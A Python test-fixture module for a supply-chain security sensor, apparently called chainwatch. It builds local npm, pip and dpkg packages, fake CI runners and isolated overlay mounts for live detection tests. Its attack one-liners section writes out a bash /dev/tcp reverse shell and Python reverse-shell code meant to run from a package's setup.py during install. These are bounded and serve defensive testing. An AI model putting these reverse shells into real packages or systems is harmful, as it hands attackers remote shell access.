"""Fixture builders for the supply-chain live tests: local npm, pip and dpkg packages, fake CI runners,
bounded reverse-shell one-liners and private overlays for persistence writes (tests/helpers/alerts.py ties the
sensor's alerts to one install's process tree).

Nothing here touches the network or the real system: packages are built and installed from files in a
temporary directory, with HOME, caches and config there too and a minimal environment (the machine's own
PIP_* / npm_config_* settings must not leak in); writes outside it happen only inside a private mount
namespace over tmpfs-backed overlays that vanish with the namespace.
"""

from __future__ import annotations

import io
import json
import os
import re
import shlex
import shutil
import signal
import subprocess
import tarfile
import textwrap
import time
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

SYSTEM_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
SYSTEM_PYTHON = "/usr/bin/python3"  # pip tests build their venv from the distro's interpreter (has Python.h)
FIXTURES = Path(__file__).parent / "fixtures"
COMMAND_TIMEOUT = 120.0  # bound on any build or install step (npm and pip take a few seconds here)
SHELL_SECONDS = 10  # bound on every reverse shell a fixture opens


# ------------------------------------------------------------------------------------------- environment


def clean_env(home: Path, extra: Mapping[str, str] | None = None) -> dict[str, str]:
    """A minimal environment: system PATH, a private HOME, a UTF-8 locale, plus ``extra``."""
    env = {
        "PATH": SYSTEM_PATH,
        "HOME": str(home),
        "LANG": "C.UTF-8",
        "TMPDIR": "/tmp",
        "PIP_CONFIG_FILE": os.devnull,
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        "PIP_NO_INPUT": "1",
    }
    env.update(extra or {})
    return env


def with_env(env: Mapping[str, str], argv: Sequence[str]) -> list[str]:
    """``argv`` run under exactly ``env`` (``env -i`` execs in place, so the pid stays the same)."""
    return ["env", "-i", *(f"{k}={v}" for k, v in env.items()), *argv]


def in_private_overlays(argv: Sequence[str], dirs: Sequence[str], scratch: Path, evidence: Path) -> list[str]:
    """``argv`` run by a shell in a private mount namespace where every directory in ``dirs`` is an
    overlay whose upper layer is on a tmpfs at ``scratch``. After the command, the shell copies the upper
    layers (what the command wrote) to ``evidence/<dir with / as _>`` so a test can check the write really
    happened, then exits with the command's status. The namespace and its mounts die with its last
    process; the real directories are never written.

    The shell stays the parent of the command (no exec) so the copy can run afterwards; its pid is the
    root of the process tree.
    """
    scratch.mkdir(parents=True, exist_ok=True)
    evidence.mkdir(parents=True, exist_ok=True)
    lines = ["set -e", f"mount -t tmpfs cw-scratch {shlex.quote(str(scratch))}"]
    for d in dirs:
        if not d.startswith("/") or d == "/":
            raise ValueError(f"overlay target must be an absolute directory, not {d!r}")
        name = d.strip("/").replace("/", "_")
        upper, work = scratch / name / "upper", scratch / name / "work"
        lines += [
            f"mkdir -p {shlex.quote(str(upper))} {shlex.quote(str(work))}",
            f"mount -t overlay cw-overlay -o lowerdir={d},upperdir={upper},workdir={work} {d}",
        ]
    lines += ["set +e", '"$@"', "rc=$?"]
    for d in dirs:
        name = d.strip("/").replace("/", "_")
        dest = shlex.quote(str(evidence / name))
        lines.append(f"mkdir -p {dest} && cp -a {shlex.quote(str(scratch / name / 'upper'))}/. {dest}/")
    lines.append("exit $rc")
    return ["unshare", "--mount", "--propagation", "private", "sh", "-c", "\n".join(lines), "cw-overlay", *argv]


def run_in_overlays(
    tmp_path: Path, script: str, dirs: Sequence[str], timeout: float = 60
) -> tuple[int, subprocess.CompletedProcess[str]]:
    """Run ``script`` with sh in a private mount namespace over overlays of ``dirs``; returns (the script
    shell's pid, the result). The script's first line of output is its pid."""
    body = "echo $$\n" + textwrap.dedent(script)
    argv = in_private_overlays(["sh", "-c", body], dirs, tmp_path / "scratch", tmp_path / "evidence")
    done = subprocess.run(argv, capture_output=True, text=True, timeout=timeout)
    assert done.returncode == 0, f"fixture failed ({done.returncode}): {done.stderr}"
    return int(done.stdout.split()[0]), done


# ------------------------------------------------------------------------------------ bounded processes


@dataclass
class Finished:
    """A finished, bounded command: the root pid of its process tree and what it printed."""

    pid: int
    returncode: int
    stdout: str
    stderr: str

    def describe(self) -> str:
        return f"exit {self.returncode}\n--- stdout\n{self.stdout[-3000:]}\n--- stderr\n{self.stderr[-3000:]}"


def _finish(proc: subprocess.Popen[bytes], timeout: float) -> Finished:
    try:
        out, err = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        # start_new_session made the root a group leader; its group cannot be reused while it is unreaped.
        try:
            os.killpg(proc.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        out, err = proc.communicate(timeout=10)
        raise AssertionError(
            f"{proc.args!r} did not finish in {timeout}s:\n{out.decode(errors='replace')}\n"
            f"{err.decode(errors='replace')}"
        ) from None
    return Finished(proc.pid, proc.returncode, out.decode(errors="replace"), err.decode(errors="replace"))


def run_in_lab(
    netlab: Any, ns: str, argv: Sequence[str], *, cwd: Path | None = None, timeout: float = COMMAND_TIMEOUT
) -> Finished:
    """Run ``argv`` in one of the lab's namespaces, bounded; ``netlab.close()`` sweeps anything left."""
    proc = netlab.spawn(ns, list(argv), cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    return _finish(proc, timeout)


def run_here(argv: Sequence[str], *, cwd: Path | None = None, timeout: float = COMMAND_TIMEOUT) -> Finished:
    """Run ``argv`` in the test's own namespaces, bounded, its whole process group killed on timeout."""
    proc = subprocess.Popen(
        list(argv),
        cwd=cwd,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        start_new_session=True,
    )
    return _finish(proc, timeout)


def run_checked(argv: Sequence[str], *, cwd: Path | None = None, timeout: float = COMMAND_TIMEOUT) -> Finished:
    """``run_here`` that fails the test, with the output, unless the command exits 0."""
    done = run_here(argv, cwd=cwd, timeout=timeout)
    if done.returncode != 0:
        raise AssertionError(f"{shlex.join(argv)} failed: {done.describe()}")
    return done


# ------------------------------------------------------------------------------------- attack one-liners


def bash_reverse_shell(host: str, port: int) -> str:
    """The classic bash /dev/tcp reverse shell, bounded by timeout(1)."""
    return f"timeout {SHELL_SECONDS} bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'"


def python_reverse_shell(host: str, port: int, once_marker: Path) -> str:
    """Python source for a reverse shell (socket, then a shell whose stdio the child dup2s onto the
    socket), bounded. ``once_marker`` makes it fire only on the first run: pip runs setup.py twice
    (egg_info, then install), and the listener accepts one connection."""
    return textwrap.dedent(f"""\
        import os, socket, subprocess
        try:
            _fd = os.open({str(once_marker)!r}, os.O_CREAT | os.O_EXCL | os.O_WRONLY)
        except FileExistsError:
            _fd = -1
        if _fd >= 0:
            os.close(_fd)
            _s = socket.create_connection(({host!r}, {port}), timeout=5)
            _s.settimeout(None)
            try:
                subprocess.run(["/bin/sh", "-i"], stdin=_s, stdout=_s, stderr=_s, timeout={SHELL_SECONDS})
            except subprocess.TimeoutExpired:
                pass
            _s.close()
    """)


# ------------------------------------------------------------------------------------------------- npm


@dataclass(frozen=True)
class NpmPackage:
    """A package tarball made by ``npm pack``."""

    name: str
    version: str
    tarball: Path


class Npm:
    """npm with HOME, cache and user config inside ``root``: nothing reads or writes the real user's
    npm state, and ``--offline`` keeps it off the network (the lab has no route anyway)."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.home = root / "home"
        self.cache = root / "npm-cache"
        self.home.mkdir(parents=True, exist_ok=True)
        self.cache.mkdir(parents=True, exist_ok=True)
        self.userconfig = self.home / ".npmrc"
        self.userconfig.write_text("")
        self.env = clean_env(self.home)

    def flags(self) -> list[str]:
        return [
            "--cache",
            str(self.cache),
            "--userconfig",
            str(self.userconfig),
            "--offline",
            "--no-audit",
            "--no-fund",
            "--update-notifier=false",
        ]

    def pack(
        self, name: str, version: str, scripts: Mapping[str, str], files: Mapping[str, str] | None = None
    ) -> NpmPackage:
        """Write a package with these lifecycle ``scripts`` and ``files``; ``npm pack`` it into a tarball."""
        src = self.root / "src" / name
        src.mkdir(parents=True)
        manifest = {
            "name": name,
            "version": version,
            "description": "chainwatch live-test fixture",
            "license": "MIT",
            "scripts": dict(scripts),
        }
        (src / "package.json").write_text(json.dumps(manifest, indent=2) + "\n")
        for rel, text in (files or {}).items():
            (src / rel).parent.mkdir(parents=True, exist_ok=True)
            (src / rel).write_text(text)
        dest = self.root / "tarballs"
        dest.mkdir(exist_ok=True)
        run_checked(with_env(self.env, ["npm", "pack", "--pack-destination", str(dest), *self.flags()]), cwd=src)
        tarball = dest / f"{name}-{version}.tgz"
        if not tarball.is_file():
            raise AssertionError(f"npm pack made no {tarball.name}: {sorted(p.name for p in dest.iterdir())}")
        return NpmPackage(name, version, tarball)

    def project(self, name: str = "cw-app") -> Path:
        """An empty private project to install into."""
        proj = self.root / name
        proj.mkdir()
        (proj / "package.json").write_text(json.dumps({"name": name, "version": "0.0.0", "private": True}) + "\n")
        return proj

    def install_argv(self, project: Path, package: NpmPackage) -> list[str]:
        """``npm install`` of the tarball into ``project``, lifecycle scripts on, under the clean env."""
        return with_env(
            self.env,
            ["npm", "install", "--prefix", str(project), "--ignore-scripts=false", *self.flags(), str(package.tarball)],
        )


def npm_available() -> str | None:
    """Why npm tests cannot run here, or None."""
    for tool in ("node", "npm"):
        if shutil.which(tool, path=SYSTEM_PATH) is None:
            return f"{tool} not found in {SYSTEM_PATH} (scripts/setup.sh installs the npm package)"
    return None


# ------------------------------------------------------------------------------------------------- pip


def make_venv(path: Path) -> Path:
    """A fresh venv from the distro's python3 (pip and setuptools come from ensurepip); its python."""
    run_checked([SYSTEM_PYTHON, "-m", "venv", str(path)])
    return path / "bin" / "python"


def build_sdist(dest: Path, name: str, version: str, setup_py: str, files: Mapping[str, str] | None = None) -> Path:
    """A source distribution ``<name_>-<version>.tar.gz`` holding setup.py and ``files``, with no
    pyproject.toml (so pip 23 runs setup.py directly, as legacy packages still do)."""
    stem = f"{re.sub(r'[-_.]+', '_', name)}-{version}"
    sdist = dest / f"{stem}.tar.gz"
    members = {
        "setup.py": setup_py,
        **(files or {}),
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
    }
    with tarfile.open(sdist, "w:gz") as tar:
        for rel, text in members.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{stem}/{rel}")
            info.size, info.mode, info.mtime = len(data), 0o644, int(time.time())
            tar.addfile(info, io.BytesIO(data))
    return sdist


def pip_install_argv(venv_python: Path, sdist: Path, home: Path) -> list[str]:
    """``<venv>/bin/pip install`` of a local sdist: no index, no build isolation (nothing to fetch)."""
    pip = venv_python.parent / "pip"
    return with_env(
        clean_env(home), [str(pip), "install", "--no-index", "--no-build-isolation", "--no-cache-dir", str(sdist)]
    )


def canonical_pypi_name(name: str) -> str:
    """PEP 503 normalisation: pip, wheel and sdist file names may spell a project differently."""
    return re.sub(r"[-_.]+", "-", name).lower()


# ------------------------------------------------------------------------------------------------- dpkg


def build_deb(
    dest: Path,
    name: str,
    version: str,
    files: Mapping[str, str],
    *,
    conffiles: Iterable[str] = (),
    maintscripts: Mapping[str, str] | None = None,
) -> Path:
    """A binary .deb made by ``dpkg-deb --build`` from ``files`` (absolute path -> content)."""
    root = dest / f"{name}_{version}"
    (root / "DEBIAN").mkdir(parents=True)
    (root / "DEBIAN" / "control").write_text(
        textwrap.dedent(f"""\
        Package: {name}
        Version: {version}
        Architecture: all
        Maintainer: chainwatch tests <tests@example.invalid>
        Description: chainwatch live-test fixture
         Installed only inside a private mount namespace.
    """)
    )
    conf = list(conffiles)
    if conf:
        (root / "DEBIAN" / "conffiles").write_text("".join(f"{c}\n" for c in conf))
    for script, text in (maintscripts or {}).items():
        (root / "DEBIAN" / script).write_text(text)
        (root / "DEBIAN" / script).chmod(0o755)
    for path, text in files.items():
        target = root / path.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
        target.chmod(0o644)
    deb = dest / f"{name}_{version}_all.deb"
    run_checked(["dpkg-deb", "--root-owner-group", "--build", str(root), str(deb)])
    return deb


DPKG_WRITES = ("/etc", "/var/lib/dpkg", "/var/log")  # every directory `dpkg -i` of a plain .deb writes


def dpkg_installed(name: str) -> bool:
    """Whether the real system's dpkg database says ``name`` is installed."""
    done = run_here(["dpkg-query", "-W", "-f=${Status}", name], timeout=30)
    return done.returncode == 0 and "install ok installed" in done.stdout


# ------------------------------------------------------------------------------------------- CI runners


def build_fake_runner(dest: Path) -> Path:
    """Compile fixtures/fake_runner.c to ``dest`` (e.g. ``<tmp>/actions-runner/bin/Runner.Worker``)."""
    cc = shutil.which("cc", path=SYSTEM_PATH) or shutil.which("gcc", path=SYSTEM_PATH)
    if cc is None:
        raise AssertionError("no C compiler (scripts/setup.sh installs gcc)")
    dest.parent.mkdir(parents=True, exist_ok=True)
    run_checked([cc, "-O2", "-o", str(dest), str(FIXTURES / "fake_runner.c")])
    return dest


def runner_argv(runner: Path, own_args: Sequence[str], step_env: Mapping[str, str], step: Sequence[str]) -> list[str]:
    """The fake runner running ``step`` as its child with ``step_env`` added for the step only."""
    return [str(runner), *own_args, "--", *(f"{k}={v}" for k, v in step_env.items()), *step]
